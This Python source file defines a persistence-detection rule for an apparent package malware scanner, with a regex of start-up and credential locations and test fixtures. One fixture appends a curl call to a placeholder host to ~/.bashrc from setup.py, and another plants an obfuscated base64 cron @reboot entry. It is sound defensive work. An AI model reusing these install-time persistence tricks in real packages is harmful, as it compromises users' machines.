"""Persistence and system access: what outlives the process, or breaks the machine."""

from __future__ import annotations

import re
from collections.abc import Iterator

from pratique.facts.model import PackageFacts
from pratique.facts.python.model import Call, Does
from pratique.facts.shell import read_shell
from pratique.finding import Behaviour, Finding, Severity
from pratique.rules.claims import calls, claim, command, when
from pratique.rules.rule import Example, Rule

_ID = "persistence"
_PLACE = re.compile(
    r"CurrentVersion[\\/]+Run|Start Menu[\\/]+Programs[\\/]+Startup|[\\/]Startup[\\/]|\.bashrc|\.bash_profile|\.zshrc|\.profile\b|"
    r"/etc/cron|/var/spool/cron|LaunchAgents|LaunchDaemons|/etc/systemd|systemd/user|autostart[\\/]|sitecustomize\.py|"
    r"usercustomize\.py|authorized_keys|/etc/rc\.local|/etc/profile|/etc/hosts$|\.cursor[\\/]|\.claude[\\/]|\.vscode[\\/]tasks"
)


def _check(facts: PackageFacts) -> Iterator[Finding]:
    for path, call in calls(facts):
        if not call.phase.automatic:
            continue  # programs install themselves when the user asks for it
        if call.does & {Does.WRITE, Does.REGISTRY} and (place := _place(call)):
            yield _finding(path, call, f"writes to {place}, which runs again later, {when(call.phase)}")
        elif Does.RUN_PROCESS in call.does:
            shell = read_shell(command(call))
            for what in (*shell.persists, *shell.disarms, *shell.destroys)[:1]:
                yield _finding(path, call, f"a command changes the system ({what}) {when(call.phase)}")


def _place(call: Call) -> str:
    keys = ("path", "1", "0") if Does.REGISTRY not in call.does else ("1", "0", "2", "4")
    for key in keys:
        argument = call.arguments.get(key)
        match = _PLACE.search(argument.text) if argument and (key != "0" or Does.REGISTRY in call.does) else None
        if match:
            return match[0]
    return ""


def _finding(path: str, call: Call, message: str) -> Finding:
    return claim(
        _ID,
        Behaviour.PERSISTENCE,
        path,
        call,
        message,
        severity=Severity.CRITICAL,
        proven=Does.WRITE in call.does,
    )


RULE = Rule(
    id=_ID,
    behaviour=Behaviour.PERSISTENCE,
    summary="Something is put where it runs again, or protection is switched off.",
    gain="The malware stays when the package is removed.",
    honest="Programs that install themselves as a service do so when the user asks for it.",
    blocks="When a file that runs later is written by itself: while the package is installed, whenever Python starts, or when it is imported.",
    check=_check,
    loud=(
        Example(
            title="a line in the shell's start-up file",
            files={
                "setup.py": "import os as o\nwith open(o.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl http://192.0.2.1/x\\n')\n"
            },
        ),
        Example(
            title="a cron table, through getattr and base64",
            files={
                "pkg/__init__.py": "import base64, os\n"
                "getattr(os, 'sys' + 'tem')(base64.b64decode('KGNyb250YWIgLWw7IGVjaG8gIkByZWJvb3QgL3RtcC94IikgfCBjcm9udGFiIC0=').decode())\n"
            },
        ),
    ),
    quiet=(
        Example(
            title="completion that the user asks for",
            files={
                "pkg/__init__.py": "import os\ndef install_completion():\n"
                "    open(os.path.expanduser('~/.bashrc'), 'a').write('source ~/.pkg\\n')\n"
            },
        ),
    ),
)
